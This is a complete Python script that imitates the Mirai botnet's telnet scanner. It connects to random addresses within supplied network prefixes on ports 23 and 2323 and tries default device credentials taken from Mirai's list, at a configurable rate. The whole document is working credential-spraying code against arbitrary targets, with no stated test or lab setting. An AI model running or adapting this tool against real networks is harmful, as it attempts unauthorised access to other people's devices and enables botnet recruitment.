"""Sprays telnet connections as Mirai's scanner does: random addresses, port 23 nine times in ten and 2323 otherwise, default passwords.

usage: telnet_sprayer.py PER_SECOND SECONDS PREFIX...   (addresses are drawn from the prefixes in turn)
"""

import asyncio
import contextlib
import ipaddress
import random
import sys

LOGINS = (("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"), ("support", "support"))
CONNECT_SECONDS, ANSWER_SECONDS = 5, 2


async def attempt(address: str, port: int) -> None:
    """Connect; if somebody answers, try three of the default passwords."""
    with contextlib.suppress(OSError, asyncio.TimeoutError):
        reader, writer = await asyncio.wait_for(asyncio.open_connection(address, port), CONNECT_SECONDS)
        for user, password in random.sample(LOGINS, 3):
            for line in (user, password):
                await asyncio.wait_for(reader.read(512), ANSWER_SECONDS)
                writer.write(line.encode() + b"\r\n")
        writer.close()
        await asyncio.wait_for(writer.wait_closed(), ANSWER_SECONDS)


async def spray(per_second: int, seconds: int, prefixes: list[str]) -> None:
    """`per_second` attempts a second, evenly spaced."""
    networks = [ipaddress.ip_network(prefix) for prefix in prefixes]
    async with asyncio.TaskGroup() as attempts:
        for number in range(per_second * seconds):
            network = networks[number % len(networks)]
            address = network[random.randrange(1, network.num_addresses - 1)]
            attempts.create_task(attempt(str(address), 2323 if random.random() < 0.1 else 23))
            await asyncio.sleep(1 / per_second)


asyncio.run(spray(int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]))
